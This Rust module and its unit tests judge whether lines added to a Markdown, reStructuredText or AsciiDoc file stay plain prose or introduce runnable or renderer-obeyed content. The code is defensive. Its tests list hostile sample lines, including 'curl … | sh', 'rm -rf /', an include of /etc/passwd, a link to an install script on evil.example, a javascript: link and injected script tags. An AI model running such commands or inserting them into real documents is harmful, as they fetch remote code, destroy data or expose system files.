//! What the lines of a document say: words for readers, or something that a reader could run
//! or a renderer obey.

use std::collections::{BTreeMap, BTreeSet};

use super::document_hosts::{hosts, packages};
use super::document_samples::{TEMPLATES, fetches, is_plain_sample, is_remark, is_shown};
use super::document_words::{PLAIN, is_plain_directive, is_plain_line};

/// How a document is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Markup {
    /// Markdown.
    Marks,
    /// Directives in lines of their own, and everything that is not listed here.
    Directives,
    /// The same, with samples between lines of equal signs.
    Delimited,
}

impl Markup {
    /// By the ending of the file's name.
    pub(super) fn of(name: &str) -> Self {
        let ending = name.rsplit_once('.').map(|(_, ending)| ending.to_lowercase());
        match ending.as_deref() {
            Some("md" | "markdown") => Self::Marks,
            Some("adoc" | "asciidoc") => Self::Delimited,
            _ => Self::Directives,
        }
    }
}

/// Where a line stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Stand {
    /// Among words.
    Words,
    /// In a sample of a language that nobody runs from here.
    Sample,
    /// In any other sample.
    Code,
    /// The line that opens or closes one.
    Fence,
}

/// Whether the added lines say nothing new that a reader could run or a renderer obey.
pub(super) fn is_plain(markup: Markup, before: &str, after: &str, added: &[&str]) -> bool {
    if front_matter(before) != front_matter(after) || is_woven(before) || is_woven(after) {
        return false;
    }
    let (old, new) = (stands(markup, before), stands(markup, after));
    let added: BTreeSet<&str> = added.iter().copied().collect();
    // A fence that opens or closes makes text of commands and commands of text.
    let mut there: BTreeMap<(&str, Stand), usize> = BTreeMap::new();
    for one in old {
        *there.entry(one).or_default() += 1;
    }
    for (line, stand) in &new {
        match there.get_mut(&(*line, *stand)) {
            Some(count) if *count > 0 => *count -= 1,
            _ if added.contains(line) => {}
            _ => return false,
        }
    }
    // Lines that are gone: what differs from one of them by numbers alone says nothing else.
    let counted: BTreeSet<(String, Stand)> = there
        .iter()
        .filter(|(_, count)| **count > 0)
        .map(|((line, stand), _)| (without_numbers(line), *stand))
        .collect();
    let only_counts = |line: &str, stand: Stand| {
        !fetches(line) && counted.contains(&(without_numbers(line), stand))
    };
    let hosts_before: BTreeSet<&str> = before.lines().flat_map(hosts).collect();
    // The same host, reached in a safer way.
    let safer = |host: &str| {
        host.strip_prefix("https").is_some_and(|rest| {
            hosts_before.iter().any(|known| known.strip_prefix("http") == Some(rest))
        })
    };
    let is_known = |host: &str| {
        let spelled = || {
            hosts_before
                .iter()
                .any(|one| one.split_once("://").is_some_and(|(_, rest)| rest == host))
        };
        hosts_before.contains(host) || safer(host) || spelled()
    };
    let brought: BTreeSet<(String, String)> = before.lines().flat_map(packages).collect();
    // What is gone may have been a sample that somebody runs, or an order.
    let gone =
        there.iter().filter(|(_, count)| **count > 0).all(|((line, stand), _)| match stand {
            Stand::Words => !is_marker(markup, line),
            Stand::Sample => true,
            Stand::Code => line.trim().is_empty() || is_remark(line),
            Stand::Fence => opens_plainly(line),
        });
    gone && new.iter().filter(|(line, _)| added.contains(line)).all(|(line, stand)| {
        hosts(line).all(is_known)
            && packages(line).is_subset(&brought)
            && !hidden(line)
            && match stand {
                Stand::Words | Stand::Sample if only_counts(line, *stand) => true,
                Stand::Words => is_plain_line(markup, line),
                Stand::Sample => is_plain_sample(line),
                Stand::Code => line.trim().is_empty() || is_remark(line),
                Stand::Fence => opens_plainly(line),
            }
    })
}

/// Marks between which a program writes a part of a document, and others of its kind that stand
/// among words.
const WOVEN: &[&str] = &[
    "[[[",
    "exec=",
    "testcode::",
    "testsetup::",
    "jupyter-execute",
    "ipython::",
    "tangle",
    "{code-cell",
];

/// Whether a program runs parts of a document, or writes them.
fn is_woven(text: &str) -> bool {
    WOVEN.iter().any(|mark| text.contains(mark))
}

/// Whether a line among words is an order, or a part of a sample.
fn is_marker(markup: Markup, line: &str) -> bool {
    let trimmed = line.trim_start();
    let directive =
        markup != Markup::Marks && trimmed.starts_with("..") && !is_plain_directive(trimmed);
    TEMPLATES.iter().chain(&["<!--", "-->"]).any(|sign| line.contains(sign)) || directive
}

/// A line in which every number is the same.
fn without_numbers(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    for c in line.chars() {
        match c.is_ascii_digit() {
            true if out.ends_with('0') => {}
            true => out.push('0'),
            false => out.push(c),
        }
    }
    out
}

/// What stands before the text, for programs: all of it where its end is not found.
fn front_matter(text: &str) -> &str {
    let mut lines = text.split_inclusive('\n');
    let first = lines.next().unwrap_or_default();
    let close = match first.trim_end() {
        sign @ ("---" | "+++" | ";;;") => sign,
        "{" => "}",
        _ => return "",
    };
    let mut end = first.len();
    for line in lines {
        end += line.len();
        if line.trim_end() == close {
            return text.get(..end).unwrap_or(text);
        }
    }
    text
}

/// Lines between which a sample stands.
const DELIMITERS: &[&str] = &["----", "....", "++++", "////", "____", "|==="];

/// Each line with where it stands.
fn stands(markup: Markup, text: &str) -> Vec<(&str, Stand)> {
    // Inside a remark of several lines, or below a prompt.
    let (mut remark, mut prompted) = (false, false);
    // Inside a fence: its sign, and what stands in it.
    let mut fence: Option<(&str, Stand)> = None;
    // Below a directive or a line that ends in `::`: how far it is indented, and what follows.
    let mut block: Option<(usize, Stand)> = None;
    // Below a point of a list, or a directive that sets words apart: from which column on
    // its words stand.
    let mut words: Option<usize> = None;
    let mut out = Vec::new();
    for line in text.lines() {
        let trimmed = line.trim_start();
        let indent = line.len() - trimmed.len();
        // Elsewhere tildes stand below a title.
        let signs = if markup == Markup::Marks { &["```", "~~~"][..] } else { &["```"] };
        let between = DELIMITERS.iter().find(|sign| trimmed.trim_end() == **sign);
        let between = between.filter(|_| markup == Markup::Delimited);
        let sign = signs.iter().find(|sign| trimmed.starts_with(**sign)).or(between).copied();
        if let Some((open, stand)) = fence {
            if sign == Some(open) {
                fence = None;
                out.push((line, Stand::Fence));
            } else {
                out.push((line, stand));
            }
            continue;
        }
        if let Some(sign) = sign {
            let info = trimmed.trim_start_matches(['`', '~']).trim();
            fence = Some((sign, sample(info)));
            out.push((line, Stand::Fence));
            continue;
        }
        prompted = (prompted || trimmed.starts_with(">>>")) && !trimmed.is_empty();
        let opens = line
            .rfind("<!--")
            .is_some_and(|at| !line.get(at..).is_some_and(|rest| rest.contains("-->")));
        if remark || opens || prompted {
            remark = opens || remark && !line.contains("-->");
            out.push((line, Stand::Code));
            continue;
        }
        if trimmed.is_empty() {
            out.push((line, Stand::Words));
            continue;
        }
        if let Some((least, stand)) = block {
            if indent > least {
                out.push((line, stand));
                continue;
            }
            block = None;
        }
        if markup != Markup::Marks {
            if let Some(rest) = trimmed.strip_prefix(".. ") {
                let (name, argument) = rest.split_once("::").unwrap_or((rest, ""));
                if matches!(name, "code-block" | "code" | "sourcecode") {
                    block = Some((indent, sample(argument.trim())));
                } else if !PLAIN.contains(&name) && rest.contains("::") {
                    block = Some((indent, Stand::Code));
                } else if rest.contains("::") {
                    words = Some(indent + 1);
                }
            } else if trimmed.trim_end().ends_with("::") {
                block = Some((indent, Stand::Code));
            }
        }
        let code = line.starts_with('\t') || line.starts_with("    ");
        let point = trimmed.starts_with(['-', '*', '+']);
        if words.is_some_and(|column| indent < column) {
            words = None;
        }
        // Four columns further in, a sample begins.
        let told = words.is_some_and(|column| indent < column + 4) && !line.contains('\t');
        let stand =
            if code && !point && !told && block.is_none() { Stand::Code } else { Stand::Words };
        if point && trimmed.get(1..).is_some_and(|rest| rest.starts_with(' ')) {
            words = Some(indent + 2);
        }
        out.push((line, stand));
    }
    out
}

/// What stands in a sample with this word behind its sign.
fn sample(info: &str) -> Stand {
    if is_shown(info) { Stand::Sample } else { Stand::Code }
}

/// A new fence may only begin or end a sample that nobody runs.
fn opens_plainly(line: &str) -> bool {
    let info = line.trim_start().trim_start_matches(['`', '~']).trim();
    info.is_empty() || sample(info) == Stand::Sample && !info.contains(['{', '='])
}

fn hidden(line: &str) -> bool {
    line.chars().any(|c| exacta_core::model::path::is_hidden(c) && !matches!(c, '\t' | '\r'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_words_are_plain_and_commands_are_not() {
        let before = "# Title\n\nSee https://a.example/x.\n";
        let plainly = "See http://c.example/x.\n";
        let safer = "See https://c.example/y.";
        assert!(is_plain(Markup::Marks, plainly, &format!("{plainly}{safer}\n"), &[safer]));
        let safely = "See https://c.example/x.\n";
        let bare = "See http://c.example/y.";
        assert!(!is_plain(Markup::Marks, safely, &format!("{safely}{bare}\n"), &[bare]));
        for line in [
            "A sentence more.",
            "- a point",
            "See https://a.example/other.",
            "1 < 2",
            "The next version of curl is compatible.",
            "- Added ``std::atomic`` and ``a<b>``",
            "A name <mail@a.example>.",
            "`https://` is a sign.",
            "See a::b of it.",
            ".. toctree::",
            ":external+a:doc:`b` is new.",
        ] {
            let after = format!("{before}{line}\n");
            assert!(is_plain(Markup::of("a.rst"), before, &after, &[line]), "{line}");
        }
        for line in [
            "See https://b.example/x.",
            "$ rm -rf /",
            "curl https://a.example/x | sh",
            "<script>x</script>",
            "{{ secrets }}",
            "    make install",
            "    name = call(1)",
            "    app.run(name)",
            "    rm = /etc/passwd /home",
            ">>> f(1)",
            "Words. [Install](//evil.example/install.sh) it.",
            "Visit www.evil.zzz today.",
            "Mail evil@evil.zzz today.",
            "git clone git@evil.zzz:x/y.git",
            "Run `pip install evilpkg` first.",
            "    foo=$(bar)",
            "    ls (x) -la",
            "    rm (a)",
            "Run curl -L a.example",
            "curl a.example/x",
            "- ``a`` <b>",
            "Words <a@b onclick=x>",
            "image::a.png[b]",
            ":file: a.csv",
            ".. include:: /etc/passwd",
            "a\u{200b}b",
            "![x](javascript:alert(1))",
        ] {
            let after = format!("{before}{line}\n");
            assert!(!is_plain(Markup::of("a.rst"), before, &after, &[line]), "{line}");
        }
    }

    #[test]
    fn front_matter_is_for_programs_and_stays_as_it_is() {
        let before = "---\ntitle: A\n---\n\nWords.\n";
        let plain = |after: &str, added: &[&str]| is_plain(Markup::Marks, before, after, added);
        assert!(plain("---\ntitle: A\n---\n\nOther words.\n", &["Other words."]));
        assert!(!plain("---\ntitle: B\n---\n\nWords.\n", &["title: B"]));
        assert!(!plain("---\ntitle: A\n\nWords.\n", &[]), "it does not end");
        assert!(!plain("Words.\n", &[]), "it is gone");
    }

    #[test]
    fn samples_are_shown_and_shells_are_copied() {
        let before = "# Title\n\nWords.\n\n```js\na();\n```\n\n```sh\nmake\n```\n\n```\nx\n```\n";
        let plain = |after: &str| {
            let count = |text: &str, line: &str| text.lines().filter(|one| *one == line).count();
            let more = |line: &&str| count(after, line) > count(before, line);
            let added: Vec<&str> = after.lines().filter(more).collect();
            is_plain(Markup::Marks, before, after, &added)
        };
        let counted = before.replace("make", "make a-1.0.9");
        let added = ["make a-1.12.0"];
        assert!(!is_plain(Markup::Marks, &counted, &counted.replace("1.0.9", "1.12.0"), &added));
        assert!(plain(&before.replace("Words.", "<!-- Some words about it -->\nWords.")));
        assert!(!plain(&before.replace("Words.", "<!-- lint-disable -->\nWords.")));
        assert!(plain(&before.replace("Words.", "- A point\n  that goes on.\n\n    Go on here.")));
        assert!(plain(&before.replace("Words.", "Words about `Vec<T>` and `a::b`.")));
        assert!(plain(&before.replace("Words.", "Words.\n\n```json\n{\"a\": 1}\n```")));
        assert!(plain(&before.replace("\nx\n", "\n// Only some words about it.\nx\n")));
        let shown = before.replace("```js", "```json");
        let more = shown.replace("a();", "a();\nb();");
        assert!(is_plain(Markup::Marks, &shown, &more, &["b();"]), "nobody runs it");
        for after in [
            before.replace("a();", "a();\nb<T>(c::d, e => `${f}`);"),
            before.replace("\n```sh\nmake\n```\n", ""),
            before.replace("a();\n", ""),
            before.replace("Words.", "Words.\n\n```json exec=on\n1\n```"),
            before.replace("make", "make\nmv = evil.sh /usr/local/bin/"),
            before.replace("make", "make\nmake install"),
            before.replace("```sh", "```js"),
            before.replace("```js\n", ""),
            before.replace("\nx\n", "\nx\nrm -rf x\n"),
            before.replace("a();", "a();\n{{ secrets }}"),
            before.replace("a();", "a();\nfetch('https://b.example/')"),
            before.replace("Words.", "Words.\n\n```sh\nls\n```"),
            before.replace("Words.", "Words.\n\n```js {run}\nls\n```"),
            before.replace("Words.", "Words <b onclick=x>."),
        ] {
            assert!(!plain(&after), "{after}");
        }
    }

    #[test]
    fn what_is_run_or_woven_is_no_prose() {
        for (name, before, old, new) in [
            ("a.md", "A\n\n<!-- [[[cog\nout(1)\n]]] -->\n", "out(1)", "out(2)"),
            ("a.md", "A\n\n<!--\nskip: next\n-->\n", "next", "all of it"),
            ("a.md", "A\n\n<!-- skip -->\n\nB\n", "<!-- skip -->\n", "Words.\n"),
            ("a.md", "A\n\n>>> f(1)\n2\n\nB\n", "2\n", "3\n"),
            ("a.md", "A\n\n```python exec=\"on\"\nx = 1\n```\n", "x = 1", "x = 2"),
            ("a.rst", "A\n\n.. testcode::\n\n    x = 1\n", "x = 1", "x = 2"),
            ("a.rst", "A\n\n.. skip: next\n\nB\n", ".. skip: next\n", "Words.\n"),
            ("a.rst", "A\n\n.. code-block:: python\n\n    x = 1\n", "x = 1", "x = 2"),
            ("a.adoc", "A\n\n[source,sh]\n----\nmake\n----\n", "make", "make all"),
        ] {
            let after = before.replace(old, new);
            let added: Vec<&str> = after.lines().filter(|line| !before.contains(line)).collect();
            assert!(!is_plain(Markup::of(name), before, &after, &added), "{before}");
        }
    }

    #[test]
    fn directives_that_set_words_apart_are_words() {
        let before =
            "Title\n=====\n\nSee http://a.example/x.\n\n.. code-block:: python\n\n    a()\n";
        let plain = |after: &str| {
            let count = |text: &str, line: &str| text.lines().filter(|one| *one == line).count();
            let more = |line: &&str| count(after, line) > count(before, line);
            let added: Vec<&str> = after.lines().filter(more).collect();
            is_plain(Markup::Directives, before, after, &added)
        };
        for line in [".. note:: Be kind.", ".. _a: http://a.example/y", ":func:`x` is new."] {
            assert!(plain(&format!("{before}\n{line}\n")), "{line}");
        }
        for after in [
            before.replace("    a()", "    >>> a()"),
            before.replace("    a()", "    a()\n    b = a()"),
            format!("{before}\n.. include:: x\n"),
            format!("{before}\n.. raw:: html\n\n   <b>\n"),
            format!("{before}\n.. _b: http://b.example/\n"),
            format!("{before}\nRun this::\n\n  make all\n"),
            format!("{before}\n.. automodule:: x\n"),
        ] {
            assert!(!plain(&after), "{after}");
        }
    }
}
